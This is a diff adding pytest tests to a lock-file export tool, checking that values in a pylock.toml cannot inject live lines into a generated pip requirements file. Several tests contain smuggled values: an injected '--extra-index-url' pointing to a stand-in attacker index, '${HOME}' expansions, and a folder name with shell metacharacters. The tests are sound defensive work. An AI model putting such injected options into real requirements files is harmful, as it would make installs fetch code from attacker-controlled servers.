@@ -9,6 +9,8 @@ from __future__ import annotations
 import datetime
 import hashlib
 import json
+import os
+import subprocess
 import sys
 from pathlib import Path
 
@@ -541,3 +543,130 @@ def test_an_index_url_with_credentials_sends_them_as_a_header_and_keeps_them_out
     assert seen[0] is not None and record.hashes == (("sha256", "ab" * 32),)  # the unusable md5 is left out
     assert record.url == f"http://127.0.0.1:{server.server_port}/simple/foo/foo-1.0-py3-none-any.whl"
     assert "p@ss" not in index.url and "wrong-pass" not in str(caught.value) and "HTTP 401" in str(caught.value)
+
+
+# --------------------------------------------------------------------------------------------------------------
+# Nothing in a lock becomes a live line of a requirements file (issue 15 item 1)
+
+DIGEST = "a" * 64
+INJECTED = "--extra-index-url https://evil.example/simple"
+
+
+def crafted_lock(folder: Path, **change) -> Path:
+    """A small lock: one wheel from an index, one VCS package; `change` sets values by dotted key."""
+    data = {
+        "lock-version": "1.0", "created-by": "a test",
+        "packages": [
+            {"name": "demo", "version": "1.0", "index": "https://download.pytorch.org/whl/cu130",
+             "marker": 'sys_platform == "linux"',
+             "wheels": [{"name": "demo-1.0-py3-none-any.whl", "url": "https://files.example/demo-1.0-py3-none-any.whl",
+                         "hashes": {"sha256": DIGEST}}]},
+            {"name": "cutlass-api", "vcs": {"type": "git", "url": "https://github.com/NVIDIA/cutlass",
+                                            "commit-id": PINNED, "subdirectory": "python/cutlass_api"}},
+        ],
+        "tool": {"envcheck": {"profile": "torch-2.11-nvgemm"}},
+    }
+    for key, value in change.items():
+        *parents, last = key.replace("]", "").replace("[", ".").split(".")
+        place = data
+        for part in parents:
+            place = place[int(part)] if part.isdigit() else place[part]
+        place[last] = value
+    path = folder / "pylock.toml"
+    path.write_text(to_toml(data))
+    return path
+
+
+def export(lock: Path, out: Path) -> int:
+    return main(["lock", "--from", str(lock), "--format", "requirements", "-o", str(out)])
+
+
+def test_the_crafted_lock_exports_as_it_should(tmp_path):
+    out = tmp_path / "requirements.txt"
+    assert export(crafted_lock(tmp_path), out) == 0
+    lines = out.read_text().splitlines()
+    assert "--extra-index-url https://download.pytorch.org/whl/cu130" in lines
+    assert 'demo==1.0 ; sys_platform == "linux" \\' in lines
+    assert [line for line in lines if line.startswith("-")] == ["--extra-index-url https://download.pytorch.org/whl/cu130"]
+
+
+BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x00", "\x1b"]
+
+
+@pytest.mark.parametrize("key", ["packages[1].vcs.url", "packages[1].vcs.commit-id", "packages[0].wheels[0].url",
+                                 "packages[0].wheels[0].name", "packages[0].index", "packages[0].marker",
+                                 "tool.envcheck.profile", "created-by"])
+@pytest.mark.parametrize("brk", BREAKS, ids=repr)
+def test_a_line_break_in_any_lock_value_is_refused_naming_the_lock_and_key(tmp_path, capsys, key, brk):
+    original = {"packages[1].vcs.url": "https://github.com/NVIDIA/cutlass", "packages[1].vcs.commit-id": PINNED,
+                "packages[0].wheels[0].url": "https://files.example/demo-1.0-py3-none-any.whl",
+                "packages[0].wheels[0].name": "demo-1.0-py3-none-any.whl",
+                "packages[0].index": "https://download.pytorch.org/whl/cu130", "packages[0].marker": 'sys_platform == "linux"',
+                "tool.envcheck.profile": "torch-2.11-nvgemm", "created-by": "a test"}[key]
+    lock = crafted_lock(tmp_path, **{key: f"{original}{brk}{INJECTED}"})
+    out = tmp_path / "requirements.txt"
+    assert export(lock, out) == 2
+    err = capsys.readouterr().err
+    assert f"--from {lock}" in err and f"'{key}'" in err and "line break" in err, err
+    assert not out.exists() and "evil.example" not in err
+    assert main(["verify", "--lock", str(lock)]) == 2  # every reader of a lock refuses it
+
+
+def test_a_plain_http_index_is_refused_as_pip_itself_would(tmp_path, capsys):
+    lock = crafted_lock(tmp_path, **{"packages[0].index": "http://mirror.example/simple"})
+    out = tmp_path / "requirements.txt"
+    assert export(lock, out) == 2
+    err = capsys.readouterr().err
+    assert f"--from {lock}" in err and "packages[0] (demo)" in err and "'index'" in err and "https://" in err
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("key, value", [
+    ("packages[0].index", "https://mirror.example/${HOME}/simple"),  # pip expands ${NAME} in a requirements file
+    ("packages[0].index", "ftp://mirror.example/simple"),
+    ("packages[0].index", "-https://x"),
+    ("packages[0].marker", 'sys_platform == "linux #x"'),  # pip ends the line at ' #'
+    ("packages[0].marker", 'extra == "a --index-url=https://evil.example/simple"'),  # an option of the line
+    ("packages[0].marker", 'extra == "${HOME}"'),
+])
+def test_a_value_pip_would_read_more_into_is_refused(tmp_path, capsys, key, value):
+    lock = crafted_lock(tmp_path, **{key: value})
+    assert export(lock, tmp_path / "requirements.txt") == 2
+    err = capsys.readouterr().err
+    assert f"--from {lock}" in err and "packages[0] (demo)" in err, err
+
+
+def local_wheel_lock(folder: Path) -> Path:
+    wheel = build_wheel(folder / "wheels", "demo", "1.0", {"demo/__init__.py": ""})
+    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
+    return crafted_lock(folder, **{"packages[0].wheels": [{"name": wheel.name, "path": f"wheels/{wheel.name}",
+                                                              "hashes": {"sha256": digest}}],
+                                   "packages[0].index": "https://pypi.org/simple"})
+
+
+def test_a_wheel_folder_no_shell_word_survives_unquoted_reaches_pip_as_one_word(tmp_path):
+    folder = tmp_path / "lock dir $x 'q' `id` ;"
+    folder.mkdir()
+    out = tmp_path / "requirements.txt"
+    assert export(local_wheel_lock(folder), out) == 0
+    done = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--no-index", "--require-hashes",
+                           "-r", str(out), "-d", str(tmp_path / "got")], capture_output=True, text=True,
+                          env={**os.environ, "PIP_CONFIG_FILE": os.devnull}, cwd=tmp_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert [p.name for p in (tmp_path / "got").iterdir()] == ["demo-1.0-py3-none-any.whl"]
+
+
+def test_a_wheel_folder_pip_would_cut_at_a_comment_is_refused(tmp_path, capsys):
+    folder = tmp_path / "wheels #1"
+    folder.mkdir()
+    lock = local_wheel_lock(folder)
+    assert export(lock, tmp_path / "requirements.txt") == 2
+    assert "the folder of demo-1.0-py3-none-any.whl" in capsys.readouterr().err
+
+
+def test_a_lock_is_never_written_with_a_line_break_in_a_value(policy, stack_wheels, tmp_path):
+    """`envcheck lock --from-env` takes paths from the target's metadata: an editable source at a path with a line
+    break stops the lock instead of reaching it."""
+    stack = [d for d in STACK if d.name != "numpy"] + [dist("numpy", "2.3.0", editable="/src/num\n--index-url x/py")]
+    with pytest.raises(UsageError, match=r"key 'packages\[\d+\]\.directory\.path' holds U\+000A"):
+        build_lock(interpreter(*stack), policy, wheelhouse=Wheelhouse([stack_wheels]), lock_dir=tmp_path)
